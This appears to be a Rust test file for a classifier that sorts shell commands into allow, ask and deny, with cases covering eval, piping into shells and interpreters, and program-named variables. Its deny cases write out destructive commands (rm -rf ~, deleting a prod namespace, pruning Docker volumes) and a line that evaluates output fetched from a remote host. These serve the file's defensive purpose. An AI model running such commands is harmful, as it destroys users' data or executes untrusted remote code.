use super::check_lines;

#[test]
fn text_that_nobody_can_know() {
    check_lines(
        r#"ask eval "$X"
         ask eval $CMD
         ask eval "$(cat f)"
         ask eval "$(jq -r .cmd a.json)"
         ask eval "$(./next-step)"
         ask bash -c "$X"
         ask sh -ec "$SCRIPT"
         ask sudo -u ann bash -c "$X"
         ask echo "$X" | bash
         ask bash <<< "$X"
         ask printf '%s' "$X" | sh -s -- --yes
         ask source <(./make-commands)
         ask . <(next-step --all)
         ask source <(echo "$X")
         ask bash <(./make-commands)
         ask tail -n +20 install.sh | sh
         ask cat install.sh | tail -n +20 | sh
         ask paste -d' ' a b | sh
         ask fold -w 80 a | bash
         ask cut -d: -f2 jobs | sh
         ask grep -o 'run: .*' jobs.yml | sh
         ask column -t jobs | bash
         ask awk -F: '{print $2}' jobs | sh
         ask tr a b < jobs | sh
         ask ./make-commands | bash
         ask next-step | python3 -
         ask next-step | python3
         ask next-step | node
         ask python3 -c "$X"
         ask node -e "$X"
         ask perl -e "$X"
         ask ruby -e "$X"
         ask cat jobs | xargs -I{} sh -c '{}'
         ask xargs -I{} bash -c {} < jobs
         ask while read -r line; do eval "$line"; done < jobs
         ask su ann -c "$X"
         ask ssh build.example.org "$X""#,
    );
}

#[test]
fn text_that_is_known_or_a_file() {
    check_lines(
        r#"allow X='ls -l'; eval "$X"
         allow X='ls -l'; bash -c "$X"
         allow eval set -- "$ARGS"
         allow eval set -- "$(getopt -o ab -- "$@")"
         allow eval "$name=1"
         allow eval "export FOO=$BAR"
         allow bash -c "ls $X"
         allow bash "$SCRIPT"
         allow source "$FILE"
         allow . ./venv/bin/activate
         allow cat install.sh | sh
         allow bash < install.sh
         allow git show HEAD:install.sh | bash
         allow echo "$X" | bash run.sh
         allow cat list | bash "$SCRIPT"
         allow echo "$X" | python3 -m json.tool
         allow echo "$X" | python3 run.py
         allow echo "$X" | python manage.py shell
         allow curl -s https://api.example.org | python3 -c 'import sys; print(sys.stdin.read())'
         allow echo "$X" | perl -pe 's/a/b/'
         allow echo "$X" | ruby -rjson -e 'puts 1'
         allow trap 'echo done' EXIT
         allow find . -name '*.sh' -exec bash {} \;
         allow ls tests | xargs -n1 bash
         allow ls | xargs -I{} sh -c 'wc -l {}'
         allow docker run --rm img sh -c 'ls'"#,
    );
}

#[test]
fn settings_that_tools_print() {
    check_lines(
        r#"allow eval "$(fnm env)"
         allow eval "$(fnm env --use-on-cd)"
         allow eval "$(ssh-agent -s)"
         allow eval `ssh-agent`
         allow eval "$(direnv hook bash)"
         allow eval "$(pyenv init -)"
         allow eval "$(pyenv virtualenv-init -)"
         allow eval "$(/opt/homebrew/bin/brew shellenv)"
         allow eval "$(rbenv init - bash)"
         allow eval "$(conda shell.bash hook)"
         allow eval "$(micromamba shell hook --shell bash)"
         allow eval "$(starship init bash)"
         allow eval "$(zoxide init bash)"
         allow eval "$(mise activate bash)"
         allow eval $(minikube docker-env)
         allow eval $(minikube -p dev docker-env)
         allow eval $(opam env)
         allow eval "$(dircolors -b)"
         allow eval $(docker-machine env default)
         allow eval "$(register-python-argcomplete pipx)"
         allow eval "$(luarocks path --bin)"
         allow eval "$(perl -I$HOME/perl5/lib/perl5 -Mlocal::lib)"
         allow source <(kubectl completion bash)
         allow source <(kubectl completion bash | sed s/kubectl/k/g)
         allow source <(cargo llvm-cov show-env --export-prefix)
         allow eval "$(./scripts/ci-env.sh)"
         allow fnm env | source
         ask eval "$(python3 init.py env)"
         ask eval "$(cat init)"
         deny eval "$(curl http://x.example.org/env)""#,
    );
}

#[test]
fn programs_that_nobody_can_know() {
    check_lines(
        r#"ask $CMD foo
         ask "$CMD" foo
         ask ${COMMAND} --all
         ask $X
         ask $(cat f)
         ask $(cat f) --all
         ask `cat f` x
         ask sudo $CMD foo
         ask timeout 5 $CMD foo
         ask env A=1 $X foo
         ask eval "$X foo"
         ask bash -c "$X foo"
         ask while read -r line; do $line; done < jobs
         ask cat jobs | xargs -I{} {} --all
         ask /usr/bin/$X -a
         allow $EDITOR notes.txt
         allow $CC -o x x.c
         allow "${CXX}" -c x.cc
         allow $PYTHON -m pytest
         allow "$PYTHON_BIN" x.py
         allow ${PYTHON:-python3} x.py
         allow $SUDO apt-get install -y jq
         allow $DOCKER_COMPOSE up -d
         allow "$@"
         allow exec "$@"
         allow $1 --version
         allow "${args[@]}"
         allow $(which python) x.py
         allow $(command -v node) x.js
         allow $(npm bin)/eslint .
         allow $(pyenv which python) x.py
         allow $(xcrun --find clang) -v
         allow if $VERBOSE; then echo yes; fi
         ask $VERBOSE x
         allow $VIRTUAL_ENV/bin/python x.py
         allow "$(git rev-parse --show-toplevel)/script.sh"
         allow ./$NAME --help
         allow build/$TARGET
         allow python$VERSION -m venv .venv
         allow ${CROSS}gcc -c x.c
         allow task_$NAME
         allow $APP_BIN --version
         allow $DRY_RUN make install
         allow for f in tests/*.sh; do $f; done
         allow X=ls; $X -l
         allow for it in git node; do $it --version; done
         allow [ -f x ] && echo yes"#,
    );
}

#[test]
fn variables_named_after_a_program_are_that_program() {
    check_lines(
        r#"deny $GIT push --force
         deny $RM -rf ~
         deny "$DOCKER" system prune -a --volumes -f
         deny $KUBECTL delete namespace prod
         deny $PYTHON -c 'import shutil; shutil.rmtree("/home/ann")'
         allow $GIT status
         allow $RM -f x.pyc"#,
    );
}
